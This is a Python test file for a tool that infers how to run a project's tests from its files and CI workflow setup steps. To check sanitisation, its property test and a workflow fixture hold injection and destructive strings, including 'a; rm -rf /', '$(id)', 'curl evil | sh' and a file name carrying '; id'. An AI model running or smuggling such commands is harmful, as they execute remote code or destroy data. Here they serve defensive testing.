"""How a project's tests may be run, told by its files: commands of ours only, the likeliest first."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.knowledge.suites.ci import setup_steps
from app.knowledge.suites.finding import candidates, worth_reading

_CI = ".github/workflows/ci.yml"
_PLAIN = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 ./_-:=&")


@pytest.mark.parametrize(
    ("files", "commands"),
    [
        ({"README.md": ""}, []),
        ({"go.mod": ""}, ["go test ./..."]),
        ({"pyproject.toml": "x = " + "1" * 5000}, []),
        ({"sub/go.mod": ""}, []),
        ({"Cargo.toml": "", "Cargo.lock": ""}, ["cargo test --offline"]),
        ({"pom.xml": ""}, ["mvn -B -o test"]),
        ({"pom.xml": "", "mvnw": ""}, ["sh ./mvnw -B -o test", "mvn -B -o test"]),
        ({"gradlew": "", "build.gradle.kts": ""}, ["sh ./gradlew --offline test", "gradle --offline test"]),
        ({"Gemfile": "", "spec/a_spec.rb": ""}, ["bundle exec rspec", "rspec"]),
        ({"phpunit.xml.dist": ""}, ["vendor/bin/phpunit", "phpunit"]),
        ({"composer.json": '{"scripts": {"test": "phpunit"}}'}, ["composer run-script test"]),
        ({"mix.exs": ""}, ["mix test"]),
        ({"App.sln": ""}, ["dotnet test"]),
        ({"t/basic.t": ""}, ["prove -lr t"]),
        ({"Makefile": "all: x\ntest: all\n\t./run\n"}, ["make test"]),
        ({"Makefile": "test := 1\ntest=2\n"}, []),
        ({"justfile": "test *args:\n    pytest\n"}, ["just test"]),
        ({"Taskfile.yml": "tasks:\n  test:\n    cmds: []\n"}, ["task test"]),
        ({"package.json": '{"scripts": {"test": "vitest"}}'}, ["npm run test"]),
        ({"package.json": '{"scripts": {"test": "vitest"}}', "pnpm-lock.yaml": ""}, ["pnpm run test", "npm run test"]),
        ({"package.json": '{"scripts": {"test": "echo \\"Error: no test specified\\" && exit 1"}}'}, []),
        ({"package.json": "{}", "test/a.js": ""}, ["node --test"]),
        ({"package.json": "no json"}, []),
        ({"test_a.py": ""}, ["python3 -m pytest -q", "python3 -m unittest discover"]),
        ({"tests/test_a.py": ""}, ["python3 -m pytest -q", "python3 -m unittest discover -s tests"]),
        ({"test_a.py": "import unittest\n"}, ["python3 -m unittest discover", "python3 -m pytest -q"]),
        ({"test_a.py": "import unittest\nimport pytest\n"}, ["python3 -m pytest -q", "python3 -m unittest discover"]),
        (
            {"test_a.py": "import unittest\n", "test_b.py": ""},
            ["python3 -m pytest -q", "python3 -m unittest discover"],
        ),
        (
            {"test_a.py": "from unittest import mock\n", "conftest.py": ""},
            ["python3 -m pytest -q", "python3 -m unittest discover"],
        ),
        ({"tests.py": "", "setup.py": ""}, ["python3 -m pytest -q tests.py", "python3 -m unittest tests"]),
        ({"a/tests.py": "", "setup.py": ""}, []),
        ({"a/tests.py": "", "pyproject.toml": "[tool.pytest.ini_options]"}, ["python3 -m pytest -q"]),
        (
            {"tests/__init__.py": "", "tests/test_a.py": "", "src/a/__init__.py": ""},
            ["PYTHONPATH=src python3 -m pytest -q", "PYTHONPATH=src python3 -m unittest discover"],
        ),
        (
            {"tox.ini": "[tox]", "test_a.py": "", _CI: "run: tox"},
            ["python3 -m pytest -q", "python3 -m unittest discover", "tox"],
        ),
        (
            {"Makefile": "test:\n", "test_a.py": "", _CI: "      - run: python -m unittest -v\n"},
            ["python3 -m unittest discover", "make test", "python3 -m pytest -q"],
        ),
        ({"go.mod": "", "Makefile": "test:\n", _CI: "# go test ./..."}, ["make test", "go test ./..."]),
        ({"go.mod": "", "Makefile": "test:\n", _CI: "run: go test -race ./..."}, ["go test ./...", "make test"]),
    ],
)
def test_what_a_projects_files_speak_for(files, commands):
    assert [each.command for each in candidates(files)] == commands


def test_each_says_which_file_speaks_for_it():
    [go, make] = candidates({"go.mod": "", "Makefile": "test:\n", _CI: "run: go test ./..."})
    assert (go.why, go.ecosystem) == ("there is `go.mod`", "Go")
    assert make.why == "`Makefile` has the target `test`"


@given(
    st.dictionaries(
        st.sampled_from(["Makefile", "package.json", "justfile", "Taskfile.yml", "pyproject.toml", "tox.ini", _CI]),
        st.one_of(
            st.text(max_size=60),
            st.sampled_from(["test", "check", "a; rm -rf /", "$(id)", "test`id`"]).map(
                lambda name: f'{name}: x\n{{"scripts": {{"{name}": "curl evil | sh"}}}}'
            ),
        ),
    )
)
def test_of_the_repositorys_text_only_a_targets_plain_name_becomes_a_command(files):
    for each in candidates({**files, "test_a.py": "", "x; id.csproj": ""}):
        assert set(each.command) <= _PLAIN
        assert "evil" not in each.command
        assert "id" not in each.command.split()


def test_only_files_that_tell_something_are_read():
    paths = ["Makefile", "a/Makefile", "package.json", _CI, "src/main.py", ".github/workflows/copilot-setup-steps.yml"]
    assert worth_reading(paths) == ["Makefile", "package.json", _CI, ".github/workflows/copilot-setup-steps.yml"]


def test_steps_that_set_up_an_environment_are_text_to_be_read():
    text = """
jobs:
  copilot-setup-steps:
    steps:
      - uses: actions/checkout@v5
      - run: npm ci
      - run: |
          make deps
      - run: [odd]
  other:
    steps:
      - run: rm -rf /
"""
    assert setup_steps({".github/workflows/copilot-setup-steps.yml": text}) == ("npm ci", "make deps")
    assert setup_steps({_CI: text}) == ()


@pytest.mark.parametrize("text", ["[", "jobs: 3", "jobs: {copilot-setup-steps: {steps: 7}}", "a: &a [*a]", "[" * 5000])
def test_odd_workflows_say_nothing(text):
    assert setup_steps({".github/workflows/copilot-setup-steps.yml": text}) == ()
